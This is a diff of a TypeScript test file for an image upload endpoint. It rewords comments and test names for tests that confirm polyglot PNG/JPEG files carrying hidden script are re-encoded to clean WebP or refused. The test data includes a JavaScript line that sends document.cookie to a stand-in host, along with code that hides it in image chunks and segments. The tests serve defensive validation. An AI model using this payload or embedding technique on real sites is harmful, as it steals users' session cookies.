@@ -15,7 +15,7 @@ afterAll(() => app.close())
 
 const upload = (file: Buffer) => client(app, editor).upload('/api/pictures', 'image/png', file)
 
-/** Nothing that a filter would know: only what is made anew from its pixels is sure to be without it. */
+/** Content that no filter would detect: only re-encoding the pixels removes it. */
 const stowaway = Buffer.from('=1;fetch("//elsewhere.example/"+document.cookie)//')
 
 const picture = () =>
@@ -27,7 +27,7 @@ const number = (size: 2 | 4, value: number) => {
   return bytes
 }
 
-/** A PNG with one more chunk behind its header. */
+/** Creates a PNG with an additional chunk after its header. */
 async function withChunk(name: string, data: Buffer) {
   const png = await picture().png().toBuffer()
   const body = joined(name, data)
@@ -35,14 +35,14 @@ async function withChunk(name: string, data: Buffer) {
   return joined(png.subarray(0, 33), chunk, png.subarray(33))
 }
 
-/** A JPEG with one more segment behind its first bytes. */
+/** Creates a JPEG with an additional segment after its first bytes. */
 async function withSegment(marker: number, data: Buffer) {
   const jpeg = await picture().jpeg().toBuffer()
   const segment = joined(Buffer.from([0xff, marker]), number(2, data.length + 2), data)
   return joined(jpeg.subarray(0, 2), segment, jpeg.subarray(2))
 }
 
-describe('a picture that is something else as well', () => {
+describe('a polyglot picture', () => {
   const cases: [string, () => Promise<Buffer>][] = [
     ['a script behind a JPEG', async () => joined(await picture().jpeg().toBuffer(), stowaway)],
     ['a script behind a PNG', async () => joined(await picture().png().toBuffer(), stowaway)],
@@ -73,7 +73,7 @@ describe('a picture that is something else as well', () => {
           .toBuffer(),
     ],
   ]
-  it.each(cases)('is served without a byte of it: %s', async (_name, make) => {
+  it.each(cases)('is served without any of the other format’s bytes: %s', async (_name, make) => {
     const file = await make()
     expect(file.includes(stowaway)).toBe(true)
     const { status, body } = await upload(file)
@@ -81,7 +81,7 @@ describe('a picture that is something else as well', () => {
     for (const width of [800, 1600]) {
       const { rawPayload } = await app.inject(body.imageUrl.replace('1600', String(width)))
       expect(rawPayload.includes(stowaway)).toBe(false)
-      // One WebP from the first byte to the last, and in it nothing but the picture.
+      // A single WebP from the first to the last byte, with only the image data.
       expect(rawPayload.subarray(0, 4).toString()).toBe('RIFF')
       expect(rawPayload.readUInt32LE(4) + 8).toBe(rawPayload.length)
       expect(rawPayload.subarray(8, 16).toString()).toBe('WEBPVP8 ')
@@ -89,7 +89,7 @@ describe('a picture that is something else as well', () => {
   })
 })
 
-describe('what only begins like a picture', () => {
+describe('a file that only begins like a picture', () => {
   const nothing = Buffer.alloc(400, ' ')
   it.each([
     ['a JPEG', Buffer.from('ffd8ffe0', 'hex')],
@@ -110,7 +110,7 @@ describe('what only begins like a picture', () => {
     ['a TIFF', joined('II*\0', nothing)],
     ['a PDF', joined('%PDF-1.7\n', nothing)],
     ['an SVG', joined('<svg xmlns="http://www.w3.org/2000/svg"/>')],
-  ])('is refused where it does not even do that: %s', async (_name, file) => {
+  ])('is refused without such a beginning too: %s', async (_name, file) => {
     const { status, body } = await upload(file)
     expect(status).toBe(415)
     expect(body.error).toMatch(/^This file .*\.$/)
